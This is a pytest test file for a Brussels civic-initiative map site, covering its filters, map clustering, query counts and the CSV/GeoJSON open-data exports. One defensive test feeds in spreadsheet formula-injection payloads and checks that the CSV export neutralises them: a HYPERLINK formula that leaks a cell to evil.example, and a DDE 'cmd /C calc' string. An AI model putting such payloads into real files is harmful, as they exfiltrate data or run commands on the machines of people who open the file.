import csv
import datetime
import io
import json

import pytest

from conftest import committed, fresh, query_count
from participation.core import models as vocabularies
from participation.core.tests.html import elements
from participation.initiatives.selectors import EXPORT_FIELDS
from participation.initiatives.tests.factories import initiative_create, map_page, term
from participation.toolbox.tests.factories import sheet_create, toolbox_index

pytestmark = pytest.mark.django_db
PRIVATE = ("Private Person", "private.person@example.org", "Private Organisation")


@pytest.fixture(scope="module")
def module_world_cafe(module_homes):
    return sheet_create(toolbox_index(module_homes["fr"]), title="World café", slug="world-cafe")


@pytest.fixture
def world_cafe(module_world_cafe, db):
    return fresh(module_world_cafe)


@pytest.fixture(scope="module")
def module_initiatives(module_homes, module_world_cafe):
    map_page(module_homes["fr"])
    with committed():
        return _initiatives(module_world_cafe)


def _initiatives(module_world_cafe):
    return {
        "square": initiative_create(
            titles={"fr": "Une place pour tous", "nl": "Een plein voor iedereen", "en": "A square for everyone"},
            communes=("ixelles",),
            themes=("urban-planning-public-space",),
            audiences=("families",),
            methods=(module_world_cafe,),
        ),
        "bikes": initiative_create(
            titles={"fr": "Des vélos pour l'école", "nl": "Fietsen voor de school"},
            communes=("schaerbeek",),
            themes=("mobility",),
            audiences=("young-people",),
            organiser_type=term(vocabularies.OrganiserType, "school"),
            participation_level=term(vocabularies.ParticipationLevel, "co-decision"),
            format=term(vocabularies.Format, "online"),
            status="ongoing",
            start_date=datetime.date(2025, 2, 1),
            end_date=None,
        ),
        "climate": initiative_create(
            titles={"nl": "Klimaatpanel", "fr": "Panel climat"},
            original_language="nl",
            communes=("bruxelles", "ixelles"),
            themes=("environment-climate", "mobility"),
            organiser_scope="regional",
            start_date=datetime.date(2023, 5, 1),
        ),
        "pending": initiative_create(titles={"fr": "En attente de modération"}, live=False),
    }


@pytest.fixture
def initiatives(module_initiatives, db):
    return fresh(module_initiatives)


def listed(response):
    return sorted(
        int(a["href"].split("/")[3].split("-")[0])
        for a in elements(response.content.decode(), "a")
        if a.get("href", "").startswith("/fr/initiatives/") and a["href"].split("/")[3][:1].isdigit()
    )


def ids(initiatives, *names):
    return sorted(initiatives[name].pk for name in names)


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ["square", "bikes", "climate"]),
        ("commune=ixelles", ["square", "climate"]),
        ("commune=schaerbeek", ["bikes"]),
        ("theme=mobility", ["bikes", "climate"]),
        ("level=co-decision", ["bikes"]),
        ("method=world-cafe", ["square"]),
        ("organiser=school", ["bikes"]),
        ("audience=families", ["square"]),
        ("status=ongoing", ["bikes"]),
        ("year=2023", ["climate"]),
        ("format=online", ["bikes"]),
        ("q=climat", ["climate"]),
        ("q=PLACE", ["square"]),
        ("q=ecole", ["bikes"]),
        ("q=Schaarbeek", ["bikes"]),
        ("commune=ixelles&theme=mobility", ["climate"]),
        ("commune=ixelles&commune=schaerbeek&status=finished", ["square", "climate"]),
        ("theme=housing", []),
    ],
)
def test_filters_apply_to_list_and_map(client, initiatives, query, expected):
    response = client.get(f"/fr/initiatives/?{query}")
    assert response.status_code == 200
    assert listed(response) == ids(initiatives, *expected)
    markers = client.get(f"/fr/initiatives/markers/?{query}").json()["markers"]
    assert sorted(marker[0] for marker in markers) == ids(initiatives, *expected)
    # The open exports hold the same records as the map and its list for the same filters.
    geojson = json.loads(client.get(f"/fr/initiatives/export/geojson/?{query}").getvalue())
    assert sorted(feature["id"] for feature in geojson["features"]) == ids(initiatives, *expected)
    rows = csv.DictReader(io.StringIO(client.get(f"/fr/initiatives/export/csv/?{query}").getvalue().decode()))
    assert sorted(int(row["id"]) for row in rows) == ids(initiatives, *expected)


@pytest.mark.parametrize(
    "query", ["commune=atlantis", "year=1850", "status=<b>", "page=abc", "page=999", "q=" + "x" * 500, "level=&theme="]
)
def test_invalid_filter_values_never_fail(client, initiatives, query):
    response = client.get(f"/fr/initiatives/?{query}")
    assert response.status_code == 200
    assert client.get(f"/fr/initiatives/markers/?{query}").status_code == 200
    assert client.get(f"/fr/initiatives/export/csv/?{query}").status_code == 200


def test_count_is_announced_and_filter_state_kept(client, initiatives):
    html = client.get("/fr/initiatives/?theme=mobility&q=v%C3%A9los").content.decode()
    assert elements(html, "h2", id="results-heading", **{"aria-live": "polite"})
    assert "1 initiative" in html.split('id="results-heading"')[1].split("</h2>")[0]
    assert "checked" in elements(html, "input", name="theme", value="mobility")[0]
    assert elements(html, "input", name="q", value="vélos")
    links = {link["type"]: link["href"] for link in elements(html, "link", rel="alternate") if "type" in link}
    assert links["application/geo+json"] == "/fr/initiatives/export/geojson/?theme=mobility&q=v%C3%A9los"
    assert links["text/csv"] == "/fr/initiatives/export/csv/?theme=mobility&q=v%C3%A9los"


def test_markers_are_compact(client, initiatives):
    for n in range(10):
        initiative_create(titles={"fr": f"Une initiative de plus numéro {n}", "nl": f"Nog een initiatief {n}"})
    response = client.get("/fr/initiatives/markers/", headers={"accept-encoding": "gzip"})
    assert response["Content-Encoding"] == "gzip"
    data = client.get("/fr/initiatives/markers/").json()
    assert data["base_url"] == "/fr/initiatives/"
    square = next(m for m in data["markers"] if m[0] == initiatives["square"].pk)
    assert square[1:4] == [50.8467, 4.3525, "Une place pour tous"]


def test_geojson_export_is_valid_and_public_only(client, initiatives):
    response = client.get("/nl/initiatives/export/geojson/?commune=ixelles")
    assert response["Content-Type"] == "application/geo+json"
    assert 'rel="license"' in response["Link"]
    assert response.streaming
    body = response.getvalue().decode()
    data = json.loads(body)
    assert data["type"] == "FeatureCollection"
    assert data["license"]
    assert {f["id"] for f in data["features"]} == set(ids(initiatives, "square", "climate"))
    for feature in data["features"]:
        assert feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert 4.24 <= lon <= 4.48 and 50.76 <= lat <= 50.92
        assert list(feature["properties"]) == EXPORT_FIELDS
    square = next(f for f in data["features"] if f["id"] == initiatives["square"].pk)["properties"]
    assert square["title"] == "Een plein voor iedereen"
    assert square["methods"] == ["world-cafe"]
    assert square["communes"] == ["ixelles"]
    for private in PRIVATE:
        assert private not in body


def test_csv_export_is_utf8_with_stable_header(client, initiatives):
    response = client.get("/fr/initiatives/export/csv/")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.streaming
    text = response.getvalue().decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == EXPORT_FIELDS
    assert {int(row["id"]) for row in rows} == set(ids(initiatives, "square", "bikes", "climate"))
    bikes = next(row for row in rows if int(row["id"]) == initiatives["bikes"].pk)
    assert bikes["title"] == "Des vélos pour l'école"
    assert bikes["status"] == "ongoing" and bikes["end_date"] == ""
    climate = next(row for row in rows if int(row["id"]) == initiatives["climate"].pk)
    assert climate["communes"] in ("bruxelles|ixelles", "ixelles|bruxelles")
    for private in PRIVATE:
        assert private not in text


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, initiatives):
    hostile = initiative_create(
        titles={"fr": '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'},
        organisers="+33 cmd|' /C calc'!A0",
        partners="@SUM(1+1)",
        providers="-2+3",
    )
    rows = csv.DictReader(io.StringIO(client.get("/fr/initiatives/export/csv/").getvalue().decode()))
    row = next(row for row in rows if int(row["id"]) == hostile.pk)
    assert row["title"] == """'=HYPERLINK("http://evil.example/?"&A1;"Cliquez")"""
    assert row["organisers"] == "'+33 cmd|' /C calc'!A0"
    assert row["partners"] == "'@SUM(1+1)"
    assert row["providers"] == "'-2+3"
    # Numbers and ordinary text are written as they are.
    assert row["latitude"] == "50.8467" and row["status"] == "finished"
    # GeoJSON is data, not a spreadsheet: its values stay exact.
    geojson = json.loads(client.get("/fr/initiatives/export/geojson/").getvalue())
    feature = next(feature for feature in geojson["features"] if feature["id"] == hostile.pk)
    assert feature["properties"]["partners"] == "@SUM(1+1)"


def test_csv_links_its_column_descriptions_in_three_languages(client, initiatives, tmp_path):
    from csvw import Table

    response = client.get("/nl/initiatives/export/csv/?theme=mobility")
    link = response["Link"]
    assert '<https://creativecommons.org/licenses/by/4.0/>; rel="license"' in link
    assert '<http://testserver/nl/initiatives/export/csv/metadata/>; rel="describedby"' in link
    metadata_response = client.get("/nl/initiatives/export/csv/metadata/")
    assert metadata_response["Content-Type"] == "application/csvm+json"
    metadata = metadata_response.json()
    columns = metadata["tableSchema"]["columns"]
    header = response.getvalue().decode().splitlines()[0].split(",")
    assert [column["name"] for column in columns] == header == EXPORT_FIELDS
    for column in columns:
        assert set(column["titles"]) == {"und", "fr", "nl", "en"}, column["name"]
        descriptions = {text["@language"]: text["@value"] for text in column["dc:description"]}
        assert set(descriptions) == {"fr", "nl", "en"} and all(descriptions.values()), column["name"]
        assert descriptions["fr"] != descriptions["en"] and descriptions["nl"] != descriptions["en"], column["name"]
    by_name = {column["name"]: column for column in columns}
    assert by_name["communes"]["separator"] == "|" and by_name["latitude"]["datatype"] == "decimal"
    assert by_name["title"]["titles"]["nl"] == "titel"
    # A CSVW processor reads the file with its metadata: every cell of every row has the declared type.
    (tmp_path / "initiatives.csv").write_bytes(client.get("/fr/initiatives/export/csv/").getvalue())
    (tmp_path / "initiatives.csv-metadata.json").write_text(json.dumps({**metadata, "url": "initiatives.csv"}))
    table = Table.from_file(tmp_path / "initiatives.csv-metadata.json")
    rows = list(table.iterdicts(strict=True))
    assert {row["id"] for row in rows} == set(ids(initiatives, "square", "bikes", "climate"))
    climate = next(row for row in rows if row["id"] == initiatives["climate"].pk)
    assert sorted(climate["communes"]) == ["bruxelles", "ixelles"] and climate["is_demo"] is False


def test_map_page_links_the_exports_their_column_descriptions_and_the_open_data_page(client, initiatives):
    html = client.get("/en/initiatives/?commune=ixelles").content.decode()
    assert elements(html, "a", href="/en/initiatives/export/csv/metadata/", rel="describedby")
    assert elements(html, "a", href="/en/open-data/")


def test_exports_stream_and_read_the_database_by_chunks(client, initiatives, monkeypatch):
    from participation.initiatives import selectors

    monkeypatch.setattr(selectors, "EXPORT_CHUNK_SIZE", 2)
    for url in ("/fr/initiatives/export/csv/", "/fr/initiatives/export/geojson/"):
        response = client.get(url)
        assert response.streaming and not response.has_header("Content-Length")
        three = query_count(client, url)  # two chunks: 2 + 1
        initiative_create(titles={"fr": "Une quatrième"})
        assert query_count(client, url) == three, "one more initiative fills the last chunk: no more queries"
        initiative_create(titles={"fr": "Une cinquième"})
        assert query_count(client, url) > three, "and one more needs another chunk"


@pytest.mark.parametrize(
    "url",
    [
        "/fr/initiatives/",
        "/fr/initiatives/markers/",
        "/fr/initiatives/markers/?bbox=4.2,50.7,4.5,50.95&zoom=13&commune=ixelles",
        "/fr/initiatives/export/geojson/",
        "/fr/initiatives/export/csv/",
        "/fr/initiatives/statistiques/",
        "/fr/initiatives/communes/ixelles/",
    ],
)
def test_views_run_a_constant_number_of_queries(client, initiatives, world_cafe, url):
    before = query_count(client, url)
    for n in range(8):
        initiative_create(
            titles={"fr": f"Encore {n}", "nl": f"Nog {n}"}, communes=("evere", "jette"), methods=(world_cafe,)
        )
    assert query_count(client, url) == before


def map_data(client, query):
    response = client.get(f"/fr/initiatives/markers/?{query}")
    assert response.status_code == 200
    return response.json()


def test_map_data_is_grouped_by_the_database_beyond_a_few_markers(client, initiatives, monkeypatch):
    from decimal import Decimal

    from participation.initiatives import selectors

    # Three more initiatives together in Schaerbeek, far from the three of the module (all in Ixelles).
    for n in range(3):
        initiative_create(
            titles={"fr": f"À Schaerbeek {n}"},
            communes=("schaerbeek",),
            latitude=Decimal("50.867") + Decimal(n) / 2000,
            longitude=Decimal("4.378"),
        )
    grouped = map_data(client, "bbox=4.2,50.7,4.5,50.95&zoom=12")
    assert grouped["total"] == 6 and grouped["markers"] == []
    assert sorted(count for _lat, _lon, count in grouped["clusters"]) == [3, 3]
    schaerbeek = next(cluster for cluster in grouped["clusters"] if cluster[0] > 50.86)
    assert schaerbeek[:2] == [50.8675, 4.378], "a cluster stands at the mean position of its initiatives"
    # Zoomed in on Schaerbeek: its three initiatives are apart, the others out of view.
    closer = map_data(client, "bbox=4.37,50.86,4.39,50.875&zoom=17")
    assert closer["total"] == 3 and closer["clusters"] == []
    assert [marker[3] for marker in closer["markers"]] == [f"À Schaerbeek {n}" for n in range(3)]
    # Without a view, a small selection comes one by one; a large one is grouped all the same.
    assert len(map_data(client, "")["markers"]) == 6
    monkeypatch.setattr(selectors, "MARKERS_AT_MOST", 5)
    assert sorted(count for _lat, _lon, count in map_data(client, "")["clusters"]) == [3, 3]
    # The filters apply to the groups as to the list.
    filtered = map_data(client, "bbox=4.2,50.7,4.5,50.95&zoom=12&commune=ixelles")
    assert filtered["total"] == 2 and filtered["clusters"] == [[50.8467, 4.3525, 2]]


def test_map_data_follows_only_the_view(client, initiatives):
    outside = map_data(client, "bbox=5.0,51.0,5.1,51.1&zoom=14")
    assert outside == {"base_url": "/fr/initiatives/", "total": 0, "markers": [], "clusters": []}
    inside = map_data(client, "bbox=4.3,50.8,4.4,50.9&zoom=14")
    assert inside["total"] == 3 and inside["markers"] == [] and inside["clusters"] == [[50.8467, 4.3525, 3]]
    # At the closest zoom, initiatives at the same spot come one by one (no zoom would part them).
    closest = map_data(client, "bbox=4.3,50.8,4.4,50.9&zoom=19")
    assert sorted(marker[0] for marker in closest["markers"]) == ids(initiatives, "square", "bikes", "climate")


@pytest.mark.parametrize(
    "query", ["bbox=nonsense&zoom=x", "bbox=1,2,3&zoom=99", "bbox=4,50,nan,51", "bbox=5,51,4,50&zoom=-3"]
)
def test_map_data_with_a_wrong_view_shows_the_whole_selection(client, initiatives, query):
    assert map_data(client, query)["total"] == 3


def test_map_page_starts_on_the_bounds_of_the_selection(client, initiatives):
    from decimal import Decimal

    initiative_create(titles={"fr": "Plus au nord"}, latitude=Decimal("50.9"), longitude=Decimal("4.4"))
    (element,) = elements(client.get("/fr/initiatives/").content.decode(), "div", id="initiative-map")
    assert element["data-bounds"] == "50.8467,4.3525,50.9,4.4"
    (element,) = elements(client.get("/fr/initiatives/?theme=housing").content.decode(), "div", id="initiative-map")
    assert element["data-bounds"] == ""
